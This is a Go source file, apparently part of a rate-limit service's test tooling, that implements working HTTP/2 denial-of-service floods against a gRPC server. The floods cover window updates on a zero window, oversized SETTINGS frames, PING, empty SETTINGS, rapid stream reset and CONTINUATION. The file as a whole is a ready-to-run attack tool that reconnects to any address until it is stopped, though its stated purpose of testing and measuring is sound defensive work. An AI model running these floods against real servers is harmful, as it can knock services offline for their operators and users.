// Package floods attacks a gRPC server with frames of HTTP/2 that cost the attacker little. It is for tests and measurements.
package floods

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// method is the path of the calls.
const method = "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"

// batch is the least that is written at once, in bytes, so that an attack costs the attacker little.
const batch = 500

// waiting is how many calls an attacker lets wait for their answers: as many as limitctl allows on a connection.
const waiting = 1000

// A Flood is a way to attack. Begin prepares a connection, and Frame writes the next frame, or what is one for this purpose; the
// number counts from 0 on the connection.
type Flood struct {
	Name  string
	begin func(a *attacker)
	frame func(a *attacker, n uint32)
	// settings are the first of the connection.
	settings []http2.Setting
}

var closedWindow = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}

// All are the floods. Their calls that wait are answered, and the answers do not fit into the window of the client.
var All = []Flood{
	{"window updates, 1,000 calls wait", waitingCalls, func(a *attacker, _ uint32) { a.WriteWindowUpdate(0, 1) }, closedWindow},
	{"SETTINGS of 2,700 windows, 1,000 calls wait", waitingCalls, func(a *attacker, _ uint32) {
		const most = (1<<14)/6 - 1
		settings := make([]http2.Setting, most)
		for i := range settings {
			settings[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i % 2)}
		}
		a.WriteSettings(settings...)
	}, closedWindow},
	{"PING", nothing, func(a *attacker, _ uint32) { a.WritePing(false, [8]byte{}) }, nil},
	{"empty SETTINGS", nothing, func(a *attacker, _ uint32) { a.WriteSettings() }, nil},
	{"calls that are reset", nothing, func(a *attacker, n uint32) {
		a.call(2*n + 1)
		a.WriteRSTStream(2*n+1, http2.ErrCodeCancel)
	}, nil},
	{"CONTINUATION", func(a *attacker) {
		a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
	}, func(a *attacker, _ uint32) { a.WriteContinuation(1, false, []byte{0x82}) }, nil},
}

func nothing(*attacker) {}

func waitingCalls(a *attacker) {
	for i := range uint32(waiting) {
		a.call(2*i + 1)
	}
}

// attacker is a connection of an attack, whose frames are collected before they are sent.
type attacker struct {
	*http2.Framer
	pending bytes.Buffer
	block   bytes.Buffer
	fields  *hpack.Encoder
}

// call writes a whole call: a question about the descriptor wide=attack of the domain edge.
func (a *attacker) call(stream uint32) {
	a.block.Reset()
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", method}, {":authority", "x"},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		a.fields.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	a.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.block.Bytes(), EndHeaders: true})
	const message = "\n\x04edge\x12\x10\n\x0e\n\x04wide\x12\x06attack"
	a.WriteData(stream, true, append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...))
}

// Run floods a server over one connection at a time until ctx ends, with rate bytes a second. When the server ends the
// connection, it begins another. It returns how often that was.
func (f *Flood) Run(ctx context.Context, address string, rate int) (ended int) {
	for ctx.Err() == nil {
		f.once(ctx, address, rate)
		if ctx.Err() == nil {
			ended++
		}
	}
	return ended
}

// once floods over one connection until the server ends it.
func (f *Flood) once(ctx context.Context, address string, rate int) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", address)
	if err != nil {
		return
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	go io.Copy(io.Discard, conn)
	a := new(attacker)
	a.Framer = http2.NewFramer(&a.pending, nil)
	a.AllowIllegalWrites = true
	a.fields = hpack.NewEncoder(&a.block)
	a.pending.WriteString(http2.ClientPreface)
	a.WriteSettings(f.settings...)
	f.begin(a)
	begun, sent := time.Now(), 0
	for n := uint32(0); ; n++ {
		if n > 0 {
			f.frame(a, n-1)
		}
		if a.pending.Len() < batch {
			continue
		}
		if n > 0 {
			sent += a.pending.Len()
		}
		if _, err := conn.Write(a.pending.Bytes()); err != nil {
			return
		}
		a.pending.Reset()
		pause := time.Duration(sent)*time.Second/time.Duration(rate) - time.Since(begun)
		select {
		case <-ctx.Done():
		case <-time.After(max(0, pause)):
		}
	}
}
